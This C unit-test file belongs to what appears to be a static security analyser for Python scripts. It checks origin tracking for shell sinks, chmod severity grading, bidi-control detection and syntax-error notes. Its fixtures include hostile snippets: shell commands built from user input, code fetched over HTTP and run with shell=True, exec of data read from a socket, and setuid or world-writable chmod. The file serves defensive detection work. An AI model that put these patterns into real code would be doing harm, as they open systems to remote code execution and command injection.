/* Where a sink's arguments come from (literal, unresolved, outside) and its
 * weight on the score, chmod graded by its mode bits, and syntax errors
 * stated as notes with line and column while the level is still computed. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>
#include <cmocka.h>

#include "assess.h"
#include "assess_fixture.h"
#include "fileio.h"
#include "testdir.h"

static struct assess_rules *load(const char *dir, const char *yaml)
{
	_cleanup_free_ char *err = NULL;
	struct assess_rules *rules = assess_fixture_load(dir, yaml, &err);

	assert_non_null(rules);
	return rules;
}

#define find assess_fixture_find

static void assess(const struct assess_rules *rules, const char *src, struct assess_result *r)
{
	assert_int_equal(assess_source(rules, "t.py", (const uint8_t *)src, strlen(src), r), 0);
}

static void test_origin_of_sink_arguments(void **state)
{
	static const struct {
		const char *src;
		const char *rule;
		enum assess_origin origin;
	} cases[] = {
		{ "import os\nos.system('ls')\n", "MAI001", ASSESS_ORIGIN_LITERAL },
		{ "import os\nos.system('ls ' + '-l')\n", "MAI001", ASSESS_ORIGIN_LITERAL },
		{ "import os\nos.system('%s %s' % ('ls', '-l'))\n", "MAI001", ASSESS_ORIGIN_LITERAL },
		{ "import os, sys\nos.system(sys.argv[1])\n", "MAI001", ASSESS_ORIGIN_OUTSIDE },
		{ "import os, sys\nos.system('ls ' + sys.argv[1])\n", "MAI001", ASSESS_ORIGIN_OUTSIDE },
		{ "import os\nos.system(os.environ['CMD'])\n", "MAI001", ASSESS_ORIGIN_OUTSIDE },
		{ "import os\nos.system(os.getenv('CMD', 'ls'))\n", "MAI001", ASSESS_ORIGIN_OUTSIDE },
		{ "import os\ncmd = input('> ')\nos.system(cmd)\n", "MAI001", ASSESS_ORIGIN_OUTSIDE },
		{ "import os\nos.system(f'ls {input()}')\n", "MAI001", ASSESS_ORIGIN_OUTSIDE },
		{ "import os, sys\nos.system(sys.stdin.readline().strip())\n", "MAI001", ASSESS_ORIGIN_OUTSIDE },
		{ "import os\nwith open('cmds.txt') as f:\n    os.system(f.read())\n", "MAI001",
		  ASSESS_ORIGIN_OUTSIDE },
		{ "import os, sys\nfor a in sys.argv[1:]:\n    os.system(a)\n", "MAI001",
		  ASSESS_ORIGIN_OUTSIDE },
		{ "import subprocess, sys\nsubprocess.run(['ls', sys.argv[1]])\n", "MAI006",
		  ASSESS_ORIGIN_OUTSIDE },
		{ "import subprocess, requests\nsubprocess.run(requests.get('http://x').text, shell=True)\n",
		  "MAI005", ASSESS_ORIGIN_OUTSIDE },
		{ "import socket\ns = socket.socket()\nexec(s.recv(1024))\n", "MAI011",
		  ASSESS_ORIGIN_OUTSIDE },
		{ "import os\ndef run(cmd):\n    os.system(cmd)\n", "MAI001", ASSESS_ORIGIN_UNRESOLVED },
		{ "import os\nos.system(build())\n", "MAI001", ASSESS_ORIGIN_UNRESOLVED },
		/* A list's origin is its least known item's, wherever it is. */
		{ "import subprocess\nsubprocess.run(['ls', '-l', build()])\n", "MAI006",
		  ASSESS_ORIGIN_UNRESOLVED },
		/* An attribute taken with getattr of outside data is outside data. */
		{ "import os\nos.system(getattr(input(), 'strip')())\n", "MAI001", ASSESS_ORIGIN_OUTSIDE },
		/* An augmented assignment leaves the literal behind, and what
		 * it adds stays with the name: typed text. */
		{ "import os\ncmd = 'ls '\ncmd += input()\nos.system(cmd)\n", "MAI001",
		  ASSESS_ORIGIN_OUTSIDE },
		/* Every operand of a chain: comparisons, and, or, if-else, **. */
		{ "import os\nos.system('ls' if a == 1 else input())\n", "MAI001", ASSESS_ORIGIN_OUTSIDE },
		{ "import os\nos.system(a and input())\n", "MAI001", ASSESS_ORIGIN_OUTSIDE },
		{ "import os\nos.system(a ** 2 or input())\n", "MAI001", ASSESS_ORIGIN_OUTSIDE },
		{ "import os\nos.system(a ^ 2 or input())\n", "MAI001", ASSESS_ORIGIN_OUTSIDE },
		/* Option flags do not count: the command is literal. */
		{ "import subprocess, sys\nsubprocess.run(['ls'], stdout=sys.stdout, stdin=sys.stdin)\n",
		  "MAI006", ASSESS_ORIGIN_LITERAL },
		{ "import pickle\npickle.loads(b'x')\n", "MAI040", ASSESS_ORIGIN_LITERAL },
		{ "import pickle\npickle.load(open('data.pkl', 'rb'))\n", "MAI040", ASSESS_ORIGIN_OUTSIDE },
		{ "import subprocess\nsubprocess.Popen(args=input(), shell=True)\n", "MAI005",
		  ASSESS_ORIGIN_OUTSIDE },
		/* An import is not a call. */
		{ "import subprocess\n", "MAI008", ASSESS_ORIGIN_NONE },
		/* A join whose first item is not a constant is not folded. */
		{ "import os\nos.system(''.join([input(), ' -l']))\n", "MAI001", ASSESS_ORIGIN_OUTSIDE },
		/* An entry of a dict display is not folded: unresolved. */
		{ "import os\nos.system({'a': 'ls'}['a'])\n", "MAI001", ASSESS_ORIGIN_UNRESOLVED },
		/* A string inside an f-string's field, with a brace in it. */
		{ "import os\nos.system(f\"{ {'k': '}'}['k'] }{input()}\")\n", "MAI001",
		  ASSESS_ORIGIN_OUTSIDE },
	};
	struct assess_rules *rules = load(*state, NULL);

	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		struct assess_result r;
		assess(rules, cases[i].src, &r);
		const struct assess_finding *f = find(&r, cases[i].rule);
		if (!f || f->origin != cases[i].origin)
			fail_msg("case %zu (%s): %s origin %s, expected %s", i, cases[i].src,
				 cases[i].rule, f ? assess_origin_to_string(f->origin) : "(no finding)",
				 assess_origin_to_string(cases[i].origin));
		assess_result_clear(&r);
	}
	/* The console's constructor takes nothing; its push takes the code. */
	struct assess_result r;
	assess(rules, "import code, sys\ncode.InteractiveConsole().push(sys.argv[1])\n", &r);
	assert_int_equal(r.n_findings, 2);
	assert_string_equal(r.findings[0].rule_id, "MAI012");
	assert_int_equal(r.findings[0].origin, ASSESS_ORIGIN_LITERAL);
	assert_string_equal(r.findings[1].rule_id, "MAI012");
	assert_int_equal(r.findings[1].col, 27);
	assert_int_equal(r.findings[1].origin, ASSESS_ORIGIN_OUTSIDE);
	assess_result_clear(&r);
	assess_rules_free(rules);
}

/* The default weights (assess_rules.yaml: unresolved 1.05, outside 1.1)
 * and a rule's own from security.yaml; a literal keeps the rule's score. */
static void test_origin_weights(void **state)
{
	struct assess_rules *rules = load(*state, NULL);
	struct assess_result r;

	/* os.system is contained (a process in the capability-less sandbox):
	 * 40 literal, 42 unresolved, 44 outside, all MEDIUM */
	assess(rules, "import os\nos.system('ls')\n", &r);
	assert_true(find(&r, "MAI001")->score > 39.9 && find(&r, "MAI001")->score < 40.1);
	assert_int_equal(r.level, LEVEL_MEDIUM);
	assess_result_clear(&r);
	assess(rules, "import os\ndef f(c):\n    os.system(c)\n", &r);
	assert_true(find(&r, "MAI001")->score > 41.9 && find(&r, "MAI001")->score < 42.1);
	assess_result_clear(&r);
	/* outside data reaching the shell is intent: MAI102, 70 x 1.1 */
	assess(rules, "import os, sys\nos.system(sys.argv[1])\n", &r);
	assert_true(find(&r, "MAI001")->score > 43.9 && find(&r, "MAI001")->score < 44.1);
	assert_true(find(&r, "MAI102")->score > 76.9 && find(&r, "MAI102")->score < 77.1);
	/* still HIGH: the weights order scripts within a level */
	assert_int_equal(r.level, LEVEL_HIGH);
	assess_result_clear(&r);
	/* many findings do not push a script past the level of its worst */
	assess(rules, "import os, sys\nfor a in sys.argv:\n    os.system(a)\n    os.popen(a)\n"
		      "    os.system(a + '1')\n", &r);
	assert_int_equal(r.level, LEVEL_HIGH);
	assert_true(r.score < 80);
	assess_result_clear(&r);
	assess_rules_free(rules);

	rules = load(*state, "rules:\n  - {id: MAI102, origin_weights: {outside: 1.2}}\n");
	assess(rules, "import os, sys\nos.system(sys.argv[1])\n", &r);
	assert_true(find(&r, "MAI102")->score > 83.9 && find(&r, "MAI102")->score < 84.1);
	assert_int_equal(r.level, LEVEL_BLOCKED);
	assess_result_clear(&r);
	assess(rules, "import os\nos.system('ls')\n", &r);
	assert_int_equal(r.level, LEVEL_MEDIUM);
	assess_result_clear(&r);
	assess_rules_free(rules);

	json_t *j;
	rules = load(*state, NULL);
	assess(rules, "import os, sys\nos.system(sys.argv[1])\nimport json\n", &r);
	j = assess_result_to_json(&r);
	json_t *fs = json_object_get(j, "findings");
	assert_string_equal(json_string_value(json_object_get(json_array_get(fs, 0), "origin")), "outside");
	assess_result_clear(&r);
	json_decref(j);
	assess(rules, "import subprocess\n", &r);
	j = assess_result_to_json(&r);
	assert_null(json_object_get(json_array_get(json_object_get(j, "findings"), 0), "origin"));
	json_decref(j);
	assess_result_clear(&r);
	assess_rules_free(rules);
}

static void test_origin_weight_errors(void **state)
{
	static const struct {
		const char *yaml;
		const char *tail;
	} cases[] = {
		{ "rules:\n  - {id: MAI001, origin_weights: {outside: 0.5}}\n",
		  "2:44: bad origin weight; expected a number from 1 to 10" },
		{ "rules:\n  - {id: MAI001, origin_weights: {literal: 2}}\n",
		  "2:35: unknown origin; expected unresolved or outside" },
		{ "rules:\n  - {id: MAI001, origin_weights: 2}\n",
		  "2:34: origin_weights is not a mapping; expected {unresolved: N, outside: N}" },
		{ "rules:\n  - {id: MAI061, match: {mode: [open]}}\n",
		  "2:32: unknown mode class; expected world-writable-or-setid, group-writable-or-exec, "
		  "restricted or unknown" },
	};
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		struct assess_rules *rules = NULL;
		_cleanup_free_ char *path = xasprintf("%s/security.yaml", (char *)*state);
		_cleanup_free_ char *want = xasprintf("%s:%s", path, cases[i].tail);
		char *err = NULL;
		assert_int_equal(fileio_write_atomic(path, cases[i].yaml, strlen(cases[i].yaml), 0644), 0);
		assert_int_not_equal(assess_rules_load(path, &rules, &err), 0);
		assert_string_equal(err, want);
		free(err);
	}
}

/* Bandit's B103 grading: o+w, setuid or setgid HIGH; g+w, g+x or o+x
 * MEDIUM; otherwise LOW; a mode that is not a constant MEDIUM. */
static void test_chmod_graded_by_mode_bits(void **state)
{
	static const struct {
		const char *call;
		const char *rule;
		enum assess_severity severity;
	} cases[] = {
		{ "os.chmod(p, 0o777)", "MAI061", ASSESS_SEV_HIGH },
		{ "os.chmod(p, 0o002)", "MAI061", ASSESS_SEV_HIGH },
		{ "os.chmod(p, 0o4755)", "MAI061", ASSESS_SEV_HIGH },
		{ "os.chmod(p, stat.S_ISGID | 0o700)", "MAI061", ASSESS_SEV_HIGH },
		{ "os.chmod(p, 511)", "MAI061", ASSESS_SEV_HIGH },
		{ "os.chmod(p, 0x1ff)", "MAI061", ASSESS_SEV_HIGH },
		{ "os.chmod(p, mode=0o666)", "MAI061", ASSESS_SEV_HIGH },
		{ "os.chmod(p, 0o755)", "MAI062", ASSESS_SEV_MEDIUM },
		{ "os.chmod(p, 0o664)", "MAI062", ASSESS_SEV_MEDIUM },
		{ "os.chmod(p, stat.S_IXOTH)", "MAI062", ASSESS_SEV_MEDIUM },
		{ "os.chmod(p, stat.S_IRWXU | stat.S_IRGRP)", "MAI064", ASSESS_SEV_LOW },
		{ "os.chmod(p, stat.S_IREAD | stat.S_IWRITE)", "MAI064", ASSESS_SEV_LOW },
		{ "os.chmod(p, stat.S_IREAD | stat.S_IEXEC)", "MAI064", ASSESS_SEV_LOW },
		{ "os.chmod(p, 0o644)", "MAI064", ASSESS_SEV_LOW },
		{ "os.chmod(p, 0o600)", "MAI064", ASSESS_SEV_LOW },
		{ "os.chmod(p, m)", "MAI063", ASSESS_SEV_MEDIUM },
		{ "pathlib.Path('x').chmod(0o777)", "MAI061", ASSESS_SEV_HIGH },
		{ "pathlib.Path('x').chmod(0o600)", "MAI064", ASSESS_SEV_LOW },
		/* Modes computed from constants are folded. */
		{ "os.chmod(p, 0o1777 - 0o1000)", "MAI061", ASSESS_SEV_HIGH },
		{ "os.chmod(p, 0o777 & 0o755)", "MAI062", ASSESS_SEV_MEDIUM },
		{ "os.chmod(p, 0o700 ^ 0o070)", "MAI062", ASSESS_SEV_MEDIUM },
		/* The method of an object nobody can name takes its mode first. */
		{ "def f(paths):\n    paths[0].chmod(0o777)", "MAI061", ASSESS_SEV_HIGH },
	};
	struct assess_rules *rules = load(*state, NULL);

	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		struct assess_result r;
		_cleanup_free_ char *src = xasprintf("import os, stat, pathlib\n%s\n", cases[i].call);
		assess(rules, src, &r);
		size_t chmods = 0;
		for (size_t k = 0; k < r.n_findings; k++)
			chmods += !strncmp(r.findings[k].rule_id, "MAI06", 5);
		const struct assess_finding *f = find(&r, cases[i].rule);
		if (!f || f->severity != cases[i].severity || chmods != 1)
			fail_msg("%s: expected one %s, got %zu chmod findings", cases[i].call,
				 cases[i].rule, chmods);
		assess_result_clear(&r);
	}
	assess_rules_free(rules);
}

/* The bidirectional controls that reorder what a reader sees (U+202A..E,
 * U+2066..9) are found, each at its line and column (in code points); the
 * code points on either side of those ranges are not. */
static void test_bidi_controls_at_their_place(void **state)
{
	static const struct {
		const char *ch;
		int found;
	} cases[] = {
		{ "\xe2\x80\xaa", 1 }, { "\xe2\x80\xae", 1 }, { "\xe2\x81\xa6", 1 },
		{ "\xe2\x81\xa9", 1 }, { "\xe2\x80\xa9", 0 }, { "\xe2\x80\xaf", 0 },
		{ "\xe2\x81\xa5", 0 }, { "\xe2\x81\xaa", 0 },
	};
	struct assess_rules *rules = load(*state, NULL);

	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		struct assess_result r;
		_cleanup_free_ char *src = xasprintf("x = 1\ncaf\xc3\xa9 = '%s'\n", cases[i].ch);
		assess(rules, src, &r);
		const struct assess_finding *f = find(&r, "MAI080");
		if (!cases[i].found) {
			assert_null(f);
		} else {
			assert_non_null(f);
			assert_int_equal(f->line, 2);
			assert_int_equal(f->col, 9);
		}
		assess_result_clear(&r);
	}
	assess_rules_free(rules);
}

/* Code of exec'd text is reported at the exec call of the file, however
 * deep the exec inside it. */
static void test_exec_text_reported_at_the_call(void **state)
{
	struct assess_rules *rules = load(*state, NULL);
	struct assess_result r;

	assess(rules, "x = 1\n\nif x:    exec(\"exec('import os; os.system(1)')\")\n", &r);
	const struct assess_finding *f = find(&r, "MAI001");
	assert_non_null(f);
	assert_int_equal(f->line, 3);
	assert_int_equal(f->col, 10);
	assess_result_clear(&r);
	assess_rules_free(rules);
}

/* A scope holds any number of names: the 200th binding in a file resolves
 * like the first. */
static void test_many_names_in_one_scope(void **state)
{
	struct assess_rules *rules = load(*state, NULL);
	struct assess_result r;
	size_t cap = 200 * 24 + 64, o = 0;
	char *src = xmalloc(cap);

	o += (size_t)snprintf(src + o, cap - o, "import os\n");
	for (int i = 0; i < 200; i++)
		o += (size_t)snprintf(src + o, cap - o, "name%d = os\n", i);
	snprintf(src + o, cap - o, "name0.system('a')\nname199.system('b')\n");
	assess(rules, src, &r);
	assert_int_equal(r.n_findings, 4); /* MAI001 and MAI091 for each call */
	assert_string_equal(r.findings[0].rule_id, "MAI001");
	assert_int_equal(r.findings[0].line, 202);
	assert_string_equal(r.findings[2].rule_id, "MAI001");
	assert_int_equal(r.findings[2].line, 203);
	assess_result_clear(&r);
	assess_rules_free(rules);
	free(src);
}

/* One-line loop bodies end with their line: a fork after nested one-line
 * loops (which Python refuses) is not in a loop. */
static void test_one_line_loops_end_with_their_line(void **state)
{
	struct assess_rules *rules = load(*state, NULL);
	struct assess_result r;

	assess(rules, "import os\nfor a in b: for c in d: os.fork()\nos.fork()\n", &r);
	/* MAI003 and MAI004 on line 2, then MAI003 alone on line 3. */
	assert_int_equal(r.n_findings, 3);
	assert_int_equal(r.findings[1].line, 2);
	assert_string_equal(r.findings[1].rule_id, "MAI004");
	assert_int_equal(r.findings[2].line, 3);
	assert_string_equal(r.findings[2].rule_id, "MAI003");
	assess_result_clear(&r);
	assess_rules_free(rules);
}

static void test_syntax_errors_are_stated(void **state)
{
	static const struct {
		const char *src;
		const char *note;
		enum level level;
	} cases[] = {
		{ "import os\nx = (1,\nos.system('id')\n",
		  "t.py:2:5: '(' was never closed (Python will refuse to run this file)", LEVEL_MEDIUM },
		{ "import os\nx = 1)\nos.system('id')\n",
		  "t.py:2:6: unmatched ')' (Python will refuse to run this file)", LEVEL_MEDIUM },
		{ "x = [1, 2)\n", "t.py:1:10: closing parenthesis ')' does not match opening "
		  "parenthesis '[' (Python will refuse to run this file)", LEVEL_LOW },
		{ "import os\nif True\n    os.system('ls')\n",
		  "t.py:2:8: expected ':' (Python will refuse to run this file)", LEVEL_MEDIUM },
		{ "x = 1\n    y = 2\n", "t.py:2:5: unexpected indent (Python will refuse to run this file)",
		  LEVEL_LOW },
		{ "if x:\n    y = 1\n  z = 2\n", "t.py:3:3: unindent does not match any outer "
		  "indentation level (Python will refuse to run this file)", LEVEL_LOW },
		{ "def f():\nreturn 1\n",
		  "t.py:2:1: expected an indented block (Python will refuse to run this file)", LEVEL_LOW },
		{ "x = 1 $ 2\n", "t.py:1:7: invalid character (Python will refuse to run this file)",
		  LEVEL_LOW },
		{ "print 'hello'\n", "t.py:1:1: missing parentheses in call to 'print' (Python will "
		  "refuse to run this file)", LEVEL_LOW },
		{ "import os\ns = 'abc\nos.system(s)\n",
		  "t.py:2:5: unterminated string literal (Python will refuse to run this file)",
		  LEVEL_MEDIUM },
		/* Past 32 open brackets, the 32nd is the one named. */
		{ "x = [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[\n",
		  "t.py:1:36: '[' was never closed (Python will refuse to run this file)", LEVEL_LOW },
	};
	struct assess_rules *rules = load(*state, NULL);

	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		struct assess_result r;
		assess(rules, cases[i].src, &r);
		if (r.n_notes != 1 || strcmp(r.notes[0], cases[i].note) != 0)
			fail_msg("case %zu: notes %zu: %s", i, r.n_notes, r.n_notes ? r.notes[0] : "");
		assert_int_equal(r.level, cases[i].level);
		assess_result_clear(&r);
	}
	/* Valid code of the same shapes: no note. */
	static const char *const valid[] = {
		"if x:\n    y = 1\nelse:\n    y = 2\n",
		"def f(a,\n      b):\n    return {a: b}[a]\n",
		"x = [i for i in range(3) if i]\nprint(f'{x!r:>10}')\n",
		"class A: pass\nmatch = 1\nprint(match)\n",
		"while x:\n    if y: break\n    z = lambda: 1\n",
		"d = {'a': (1, [2, {3: 4}])}\nx = d['a'][1][1:]\n",
		/* A tab goes to the next multiple of 8: 9 spaces are deeper. */
		"if x:\n\tif y:\n         z = 1\n",
		"if x:\n        if y:\n        \tz = 1\n",
		/* Strings and comments (3.12) inside an f-string's fields. */
		"print(f\"{ {'k': '}'}['k'] }\")\n",
		"print(f'''{x # the value\n}''')\n",
	};
	for (size_t i = 0; i < ARRAY_SIZE(valid); i++) {
		struct assess_result r;
		assess(rules, valid[i], &r);
		if (r.n_notes)
			fail_msg("valid %zu: %s", i, r.notes[0]);
		assess_result_clear(&r);
	}
	assess_rules_free(rules);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_origin_of_sink_arguments, testdir_setup, testdir_teardown),
		cmocka_unit_test_setup_teardown(test_origin_weights, testdir_setup, testdir_teardown),
		cmocka_unit_test_setup_teardown(test_origin_weight_errors, testdir_setup, testdir_teardown),
		cmocka_unit_test_setup_teardown(test_chmod_graded_by_mode_bits, testdir_setup, testdir_teardown),
		cmocka_unit_test_setup_teardown(test_bidi_controls_at_their_place, testdir_setup, testdir_teardown),
		cmocka_unit_test_setup_teardown(test_syntax_errors_are_stated, testdir_setup, testdir_teardown),
		cmocka_unit_test_setup_teardown(test_exec_text_reported_at_the_call, testdir_setup, testdir_teardown),
		cmocka_unit_test_setup_teardown(test_many_names_in_one_scope, testdir_setup, testdir_teardown),
		cmocka_unit_test_setup_teardown(test_one_line_loops_end_with_their_line, testdir_setup,
						testdir_teardown),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
